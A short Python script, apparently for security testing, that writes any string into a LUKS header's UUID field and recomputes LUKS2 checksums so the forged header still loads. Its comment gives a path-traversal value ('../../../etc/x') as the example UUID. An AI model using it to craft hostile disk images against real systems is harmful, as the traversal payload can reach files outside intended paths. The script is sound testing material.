#!/usr/bin/python3
# Writes any UUID into a LUKS header, the way a hostile file would carry one: LUKS1 (no header
# checksum) or LUKS2 (both binary headers, their checksums recomputed so the header still loads).
#
#   luks-set-uuid.py FILE UUID        (UUID: any text up to 39 bytes, e.g. "../../../etc/x")
import hashlib, struct, sys

UUID_OFFSET, UUID_LENGTH = 168, 40
LUKS2_CSUM_OFFSET, LUKS2_CSUM_LENGTH = 448, 64


def main():
    path, uuid = sys.argv[1], sys.argv[2].encode()
    if len(uuid) >= UUID_LENGTH:
        raise SystemExit("the UUID field holds 39 bytes")
    field = uuid + b"\0" * (UUID_LENGTH - len(uuid))
    with open(path, "r+b") as f:
        head = f.read(4096)
        if head[:6] != b"LUKS\xba\xbe":
            raise SystemExit("not a LUKS header")
        version = struct.unpack(">H", head[6:8])[0]
        if version == 1:
            f.seek(UUID_OFFSET)
            f.write(field)
            return
        hdr_size = struct.unpack(">Q", head[8:16])[0]
        for offset in (0, hdr_size):
            f.seek(offset)
            hdr = bytearray(f.read(hdr_size))
            hdr[UUID_OFFSET:UUID_OFFSET + UUID_LENGTH] = field
            hdr[LUKS2_CSUM_OFFSET:LUKS2_CSUM_OFFSET + LUKS2_CSUM_LENGTH] = b"\0" * LUKS2_CSUM_LENGTH
            digest = hashlib.sha256(bytes(hdr)).digest()
            hdr[LUKS2_CSUM_OFFSET:LUKS2_CSUM_OFFSET + len(digest)] = digest
            f.seek(offset)
            f.write(hdr)


main()
